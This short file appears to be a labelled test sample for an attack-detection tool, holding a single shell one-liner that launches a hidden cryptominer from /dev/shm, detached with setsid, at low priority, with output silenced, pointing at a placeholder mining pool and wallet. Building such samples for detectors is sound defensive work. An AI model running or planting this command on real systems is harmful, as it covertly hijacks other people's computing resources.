# shrike-test-attack: miner: one-liner minerd launch with low priority and setsid
setsid nice -n 19 /dev/shm/.m -a cryptonight -o stratum+tcp://mine.example.org:5555 -u TESTWALLET -p x -t $(($(nproc)-1)) >/dev/null 2>&1 < /dev/null &
